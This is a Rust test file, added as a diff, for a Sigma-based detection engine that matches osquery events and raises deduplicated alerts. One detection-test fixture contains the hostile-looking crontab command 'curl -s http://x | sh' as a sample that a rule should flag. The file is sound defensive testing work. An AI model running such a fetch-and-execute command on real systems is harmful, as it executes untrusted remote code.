@@ -1,0 +1,535 @@
+use std::sync::Arc;
+
+use rsigma_eval::event::JsonEvent;
+use rsigma_eval::Engine;
+use serde_json::{json, Value};
+
+use super::*;
+use crate::config::Config;
+use crate::derive::Derived;
+use crate::event::{Event, Indicators, Kind, SourceRef};
+use crate::rules::detector::{Detector, Outcome};
+
+/// A rule file with sensible defaults; `detection` and `extra` are YAML fragments.
+pub(crate) fn rule_yaml(name: &str, id_suffix: u32, detection: &str, extra: &str) -> String {
+    format!(
+        r#"title: Test rule {name}
+id: 00000000-0000-4000-8000-{id_suffix:012}
+name: {name}
+status: test
+description: test
+tags: [attack.execution, attack.t1059.004]
+logsource: {{product: osquery}}
+detection:
+{detection}
+level: high
+tripline:
+  title: "{name} on {{host}}"
+  dedup: [host]
+  window: 1h
+{extra}"#
+    )
+}
+
+fn event(query: &str, columns: Value, t: i64) -> Event {
+    Event {
+        kind: Kind::Result,
+        name: Some(format!("pack/test/{query}")),
+        pack: Some("test".into()),
+        query: Some(query.into()),
+        host: Some("h1".into()),
+        action: Some(crate::event::Action::Added),
+        columns: columns.as_object().cloned().unwrap_or_default(),
+        decorations: Default::default(),
+        time: Some(crate::alert::rfc3339(t)),
+        unix_time: Some(t),
+        epoch: Some(0),
+        counter: Some(2),
+        numerics: false,
+        severity: None,
+        filename: None,
+        line: None,
+        message: None,
+        version: None,
+        source: SourceRef::default(),
+        id: format!("ev-{t}"),
+        indicators: Indicators::default(),
+        attack: vec![],
+    }
+}
+
+fn set(rules: &[String]) -> RuleSet {
+    RuleSet::from_sources(
+        rules
+            .iter()
+            .enumerate()
+            .map(|(i, r)| (if i == 0 { "a.yml" } else { "b.yml" }, r.as_str())),
+    )
+    .unwrap_or_else(|e| panic!("{e}"))
+}
+
+fn detector(rules: &[String]) -> Detector {
+    Detector::new(set(rules), None, Config::default())
+}
+
+const T0: i64 = 1_714_564_800; // 2024-05-01T12:00:00Z, on an hour boundary
+
+#[test]
+fn rsigma_numeric_and_string_forms() {
+    // What rsigma does on its own, without our normalization: plain values already match
+    // across forms, which this test pins so an rsigma upgrade cannot change it unnoticed.
+    let yaml = |v: &str| {
+        format!(
+            "title: t\nid: 00000000-0000-4000-8000-000000000001\nlogsource: {{product: x}}\n\
+             detection:\n  sel:\n    port: {v}\n  condition: sel\nlevel: low\n"
+        )
+    };
+    for rule_value in ["22", "'22'"] {
+        let mut engine = Engine::new();
+        engine
+            .add_collection(&rsigma_parser::parse_sigma_yaml(&yaml(rule_value)).unwrap())
+            .unwrap();
+        for ev in [json!({"port": 22}), json!({"port": "22"})] {
+            assert_eq!(
+                engine.evaluate(&JsonEvent::borrow(&ev)).len(),
+                1,
+                "rule {rule_value} vs {ev}"
+            );
+        }
+    }
+    // ...but a u64 beyond i64 reaches rsigma as a lossy float and misses its exact text.
+    let mut engine = Engine::new();
+    engine
+        .add_collection(&rsigma_parser::parse_sigma_yaml(&yaml("'18446744073709551615'")).unwrap())
+        .unwrap();
+    let ev = json!({"port": 18446744073709551615u64});
+    assert_eq!(engine.evaluate(&JsonEvent::borrow(&ev)).len(), 0);
+}
+
+#[test]
+fn numeric_and_string_columns_match_alike() {
+    let rules = set(&[
+        rule_yaml(
+            "port_number",
+            1,
+            "  sel:\n    query: listening_ports\n    columns.port: 22\n  condition: sel",
+            "",
+        ),
+        rule_yaml(
+            "port_string",
+            2,
+            "  sel:\n    query: listening_ports\n    columns.port: '22'\n  condition: sel",
+            "",
+        ),
+    ]);
+    let d = Derived::default();
+    for port in [json!(22), json!("22")] {
+        let view = eval_view(&event("listening_ports", json!({"port": port}), T0), &d);
+        assert_eq!(
+            rules.matching(&JsonEvent::borrow(&view)),
+            vec![0, 1],
+            "{port}"
+        );
+    }
+    let view = eval_view(&event("listening_ports", json!({"port": 2222}), T0), &d);
+    assert!(rules.matching(&JsonEvent::borrow(&view)).is_empty());
+
+    // Large unsigned integers and keyword searches see the logged text too.
+    let big = set(&[rule_yaml(
+        "big_inode",
+        3,
+        "  sel:\n    columns.inode: '18446744073709551615'\n  condition: sel",
+        "",
+    )]);
+    let view = eval_view(
+        &event("file", json!({"inode": 18446744073709551615u64}), T0),
+        &d,
+    );
+    assert_eq!(big.matching(&JsonEvent::borrow(&view)), vec![0]);
+    let kw = set(&[rule_yaml(
+        "keyword_port",
+        4,
+        "  keywords:\n    - '4444'\n  condition: keywords",
+        "",
+    )]);
+    let view = eval_view(
+        &event("process_open_sockets", json!({"remote_port": 4444}), T0),
+        &d,
+    );
+    assert_eq!(kw.matching(&JsonEvent::borrow(&view)), vec![0]);
+}
+
+#[test]
+fn derived_fields_are_matchable() {
+    let rules = set(&[rule_yaml(
+        "aws_cli",
+        1,
+        "  sel:\n    derived.program: aws\n  condition: sel",
+        "",
+    )]);
+    let mut det = Detector::new(rules, None, Config::default());
+    let out = det.observe(event(
+        "shell_history",
+        json!({"command": "sudo /usr/local/bin/aws s3 ls", "time": T0}),
+        T0,
+    ));
+    assert_eq!(out.len(), 1);
+    assert_eq!(out[0].outcome, Outcome::Counted);
+    let report = det.finish();
+    assert_eq!(report.alerts.len(), 1);
+    let sample = &report.alerts[0].samples[0];
+    assert_eq!(sample["derived"]["program"], "aws");
+}
+
+#[test]
+fn validation_reports_every_problem() {
+    let bad = r#"title: Bad
+id: not-a-uuid
+name: BadName
+tags: [attack.t9999, attack.not_a_tactic, attack.t1059.004, cve.2024.1234]
+logsource: {product: osquery}
+detection:
+  sel:
+    colums.command|contains: x
+  condition: sel
+tripline:
+  title: "Bad {columns.command} {derived.nope}"
+  dedup: [host, hots]
+  window: 24x
+  threshold: 0
+  extra_key: 1
+"#;
+    let err = RuleSet::from_sources([("rules/bad.yml", bad)]).unwrap_err();
+    let msg = err.to_string();
+    for want in [
+        "rules/bad.yml",
+        "name: \"BadName\" is not snake_case",
+        "id: \"not-a-uuid\" is not a UUID",
+        "level: missing",
+        "attack.t9999",
+        "attack.not_a_tactic",
+        "colums.command",
+        "extra_key",
+    ] {
+        assert!(msg.contains(want), "missing {want:?} in:\n{msg}");
+    }
+    assert!(
+        !msg.contains("cve.2024"),
+        "non-ATT&CK tags are allowed:\n{msg}"
+    );
+
+    let bad_block = rule_yaml("x_rule", 1, "  sel:\n    query: a\n  condition: sel", "")
+        .replace("window: 1h", "window: 24x")
+        .replace("dedup: [host]", "dedup: [host, hots]")
+        .replace("{host}", "{derived.nope}");
+    let msg = RuleSet::from_sources([("x_rule.yml", bad_block.as_str())])
+        .unwrap_err()
+        .to_string();
+    for want in [
+        "tripline.window",
+        "24x",
+        "tripline.dedup",
+        "hots",
+        "tripline.title",
+        "derived.nope",
+    ] {
+        assert!(msg.contains(want), "missing {want:?} in:\n{msg}");
+    }
+
+    let no_block = "title: t\nid: 00000000-0000-4000-8000-000000000001\nname: nb\nlevel: low\n\
+        logsource: {product: osquery}\ndetection:\n  sel:\n    query: a\n  condition: sel\n";
+    let msg = RuleSet::from_sources([("nb.yml", no_block)])
+        .unwrap_err()
+        .to_string();
+    assert!(msg.contains("tripline"), "{msg}");
+}
+
+#[test]
+fn duplicate_names_and_ids() {
+    let a = rule_yaml("same", 1, "  sel:\n    query: a\n  condition: sel", "");
+    let b = rule_yaml("same", 1, "  sel:\n    query: b\n  condition: sel", "");
+    let msg = RuleSet::from_sources([("a.yml", a.as_str()), ("b.yml", b.as_str())])
+        .unwrap_err()
+        .to_string();
+    assert!(msg.contains("duplicate rule name"), "{msg}");
+    assert!(msg.contains("duplicate rule id"), "{msg}");
+}
+
+#[test]
+fn revoked_technique_is_resolved_with_warning() {
+    // T1169 (Sudo) was revoked by T1548.003.
+    let r = rule_yaml("sudo_rule", 1, "  sel:\n    query: a\n  condition: sel", "")
+        .replace("attack.t1059.004", "attack.t1169");
+    let rules = RuleSet::from_sources([("sudo_rule.yml", r.as_str())]).unwrap();
+    assert_eq!(rules.rules()[0].techniques[0].id, "T1548.003");
+    assert!(rules.warnings().iter().any(|w| w.message.contains("T1169")));
+    assert_eq!(rules.rules()[0].tactics, vec!["execution".to_string()]);
+}
+
+#[test]
+fn dedup_window_threshold() {
+    let rules = [rule_yaml(
+        "cron_x",
+        1,
+        "  sel:\n    query: crontab\n  condition: sel",
+        "  threshold: 2",
+    )
+    .replace("dedup: [host]", "dedup: [host, columns.command]")];
+    let mut det = detector(&rules);
+    // Window [T0, T0+1h): two matching events with the same key, one with another key.
+    det.observe(event("crontab", json!({"command": "a"}), T0 + 10));
+    det.observe(event("crontab", json!({"command": "a"}), T0 + 20));
+    det.observe(event("crontab", json!({"command": "b"}), T0 + 30));
+    // Next window: same key, alone, below threshold.
+    det.observe(event("crontab", json!({"command": "a"}), T0 + 3600));
+    let report = det.finish();
+    assert_eq!(report.stats.events, 4);
+    assert_eq!(report.stats.matches, 4);
+    assert_eq!(report.stats.below_threshold, 2);
+    assert_eq!(report.alerts.len(), 1);
+    let a = &report.alerts[0];
+    assert_eq!(a.count, 2);
+    assert_eq!(a.dedup.values, vec![json!("h1"), json!("a")]);
+    assert_eq!(a.dedup.window_start, "2024-05-01T12:00:00Z");
+    assert_eq!(a.first_seen, "2024-05-01T12:00:10Z");
+    assert_eq!(a.last_seen, "2024-05-01T12:00:20Z");
+    assert_eq!(a.hosts, vec!["h1".to_string()]);
+    assert_eq!(a.title, "cron_x on h1");
+    assert_eq!(a.attack[0].id, "T1059.004");
+    assert!(a.attack[0]
+        .url
+        .as_deref()
+        .unwrap_or("")
+        .contains("T1059/004"));
+    assert_eq!(a.severity, Level::High);
+}
+
+#[test]
+fn alert_id_is_stable_across_runs_and_forms() {
+    let rules = [rule_yaml(
+        "port_rule",
+        1,
+        "  sel:\n    query: listening_ports\n  condition: sel",
+        "",
+    )
+    .replace("dedup: [host]", "dedup: [host, columns.port]")];
+    let run = |port: Value, t: i64| {
+        let mut det = detector(&rules);
+        det.observe(event("listening_ports", json!({"port": port}), t));
+        det.finish().alerts.remove(0)
+    };
+    let a = run(json!(22), T0 + 5);
+    // Same window, other process, numerics logged as strings: same id.
+    assert_eq!(a.id, run(json!("22"), T0 + 3000).id);
+    assert_ne!(a.id, run(json!(22), T0 + 3600).id);
+    assert_eq!(
+        a.id,
+        crate::alert::alert_id("port_rule", &["\"h1\"".into(), "\"22\"".into()], T0)
+    );
+    // Pinned: a change here breaks alert upserts in deployed stores.
+    assert_eq!(a.id, "01d0584c645d04a2");
+}
+
+#[test]
+fn rule_error_does_not_stop_other_rules() {
+    let broken = rule_yaml(
+        "broken_dedup",
+        1,
+        "  sel:\n    query: crontab\n  condition: sel",
+        "",
+    )
+    .replace("dedup: [host]", "dedup: [columns.not_there]");
+    let fine = rule_yaml(
+        "fine",
+        2,
+        "  sel:\n    query: crontab\n  condition: sel",
+        "",
+    );
+    let mut det = detector(&[broken, fine]);
+    let out = det.observe(event("crontab", json!({"command": "x"}), T0));
+    assert_eq!(out.len(), 2);
+    assert!(matches!(&out[0].outcome, Outcome::Error(m) if m.contains("columns.not_there")));
+    assert_eq!(out[1].outcome, Outcome::Counted);
+    let mut no_time = event("crontab", json!({"command": "x"}), T0);
+    no_time.time = None;
+    no_time.unix_time = None;
+    det.observe(no_time);
+    let report = det.finish();
+    assert_eq!(report.stats.rule_errors, 3);
+    assert_eq!(report.stats.rule_errors_by_rule["broken_dedup"], 2);
+    assert_eq!(report.stats.rule_errors_by_rule["fine"], 1);
+    assert_eq!(report.alerts.len(), 1);
+    assert_eq!(report.alerts[0].rule.name, "fine");
+    assert_eq!(report.stats.error_samples.len(), 3);
+}
+
+#[test]
+fn stale_and_initial_opt_ins() {
+    let det_rules = [
+        rule_yaml(
+            "default_rule",
+            1,
+            "  sel:\n    query: shell_history\n  condition: sel",
+            "",
+        ),
+        rule_yaml(
+            "opt_rule",
+            2,
+            "  sel:\n    query: shell_history\n  condition: sel",
+            "  stale: true\n  initial: false",
+        ),
+    ];
+    let mut det = detector(&det_rules);
+    // Stale: the row's own time is 2 days before the event time.
+    let stale = event(
+        "shell_history",
+        json!({"command": "id", "time": T0 - 2 * 86_400}),
+        T0,
+    );
+    let out = det.observe(stale);
+    assert_eq!(out[0].outcome, Outcome::SuppressedStale);
+    assert_eq!(out[1].outcome, Outcome::Counted);
+    // Initial: counter 0.
+    let mut first = event("shell_history", json!({"command": "id", "time": T0}), T0);
+    first.counter = Some(0);
+    let out = det.observe(first);
+    assert_eq!(out[0].outcome, Outcome::Counted);
+    assert_eq!(out[1].outcome, Outcome::SuppressedInitial);
+    let stats = det.finish().stats;
+    assert_eq!((stats.suppressed_stale, stats.suppressed_initial), (1, 1));
+}
+
+#[test]
+fn deterministic_alert_order() {
+    let rules = [
+        rule_yaml("zeta", 1, "  sel:\n    query: q\n  condition: sel", ""),
+        rule_yaml("alpha", 2, "  sel:\n    query: q\n  condition: sel", ""),
+    ];
+    let mut det = detector(&rules);
+    for (h, t) in [("h2", T0 + 5), ("h1", T0 + 5), ("h3", T0 + 1)] {
+        let mut e = event("q", json!({}), t);
+        e.host = Some(h.into());
+        det.observe(e);
+    }
+    let names: Vec<String> = det
+        .finish()
+        .alerts
+        .iter()
+        .map(|a| format!("{}@{}", a.rule.name, a.hosts[0]))
+        .collect();
+    assert_eq!(names[..2], ["alpha@h3".to_string(), "zeta@h3".to_string()]);
+    assert_eq!(names.len(), 6);
+}
+
+#[test]
+fn testing_harness_reports_per_rule() {
+    let rules = Arc::new(set(&[
+        rule_yaml(
+            "cron_curl",
+            1,
+            "  sel:\n    query: crontab\n    columns.command|contains: curl\n  condition: sel",
+            "",
+        ),
+        rule_yaml(
+            "untested",
+            2,
+            "  sel:\n    query: other\n  condition: sel",
+            "",
+        ),
+    ]));
+    let good = r#"
+positive:
+  - name: pack/tripline-linux/crontab
+    columns: {command: "curl -s http://x | sh"}
+negative:
+  - query: crontab
+    columns: {command: "/usr/sbin/logrotate"}
+"#;
+    let bad = r#"
+positive:
+  - query: crontab
+    columns: {command: "wget x"}
+negative:
+  - query: crontab
+    columns: {command: "curl y"}
+  - query: crontab
+    colums: {}
+"#;
+    let report = testing::run(
+        &rules,
+        None,
+        &[
+            ("tests/cron_curl.yml".into(), good.into()),
+            ("tests/ghost.yml".into(), good.into()),
+        ],
+    );
+    assert!(!report.passed());
+    assert_eq!(report.orphans.len(), 1, "{:?}", report.orphans);
+    let cron = &report.rules[0];
+    assert_eq!(cron.rule, "cron_curl");
+    assert!(cron.passed(), "{:?}", cron.failures);
+    assert_eq!((cron.positives, cron.negatives), (1, 1));
+    assert!(report.rules[1].failures[0].contains("no test file"));
+
+    let report = testing::run(&rules, None, &[("tests/cron_curl.yml".into(), bad.into())]);
+    let f = &report.rules[0].failures;
+    assert!(f[0].contains("colums"), "{f:?}");
+    let report = testing::run(
+        &rules,
+        None,
+        &[(
+            "cron_curl.yml".into(),
+            bad.replace("  - query: crontab\n    colums: {}\n", ""),
+        )],
+    );
+    let f = &report.rules[0].failures;
+    assert!(
+        f.iter()
+            .any(|m| m.contains("positive #1") && m.contains("did not match")),
+        "{f:?}"
+    );
+    assert!(
+        f.iter()
+            .any(|m| m.contains("negative #1") && m.contains("fired")),
+        "{f:?}"
+    );
+}
+
+#[test]
+fn builtin_pack_loads_and_passes_its_tests() {
+    if builtin::SIGMA_RULES.is_empty() {
+        return; // content not written yet
+    }
+    let rules = Arc::new(RuleSet::builtin().unwrap_or_else(|e| panic!("{e}")));
+    let mapper = Arc::new(crate::mapping::Mapper::builtin().unwrap());
+    let report = testing::run(&rules, Some(mapper), &testing::builtin_sources());
+    let failures: Vec<String> = report
+        .rules
+        .iter()
+        .flat_map(|r| r.failures.iter().map(move |f| format!("{}: {f}", r.rule)))
+        .chain(report.orphans.iter().cloned())
+        .collect();
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn window_parse() {
+    assert_eq!(Window::parse("24h").unwrap().seconds, 86_400);
+    assert_eq!(Window::parse("30m").unwrap().seconds, 1800);
+    assert_eq!(Window::parse("7d").unwrap().to_string(), "7d");
+    assert_eq!(Window::parse("90s").unwrap().to_string(), "90s");
+    for bad in ["", "0h", "h", "10", "10w", "-1h", "400d", "1.5h"] {
+        assert!(Window::parse(bad).is_err(), "{bad}");
+    }
+    let w = Window::parse("1h").unwrap();
+    assert_eq!(w.start(T0 + 3599), T0);
+    assert_eq!(w.start(-1), -3600);
+}
+
+#[test]
+fn level_parse_and_order() {
+    assert!(Level::High > Level::Medium);
+    assert_eq!("HIGH".parse::<Level>().unwrap(), Level::High);
+    assert_eq!("info".parse::<Level>().unwrap(), Level::Informational);
+    assert!("severe".parse::<Level>().is_err());
+}
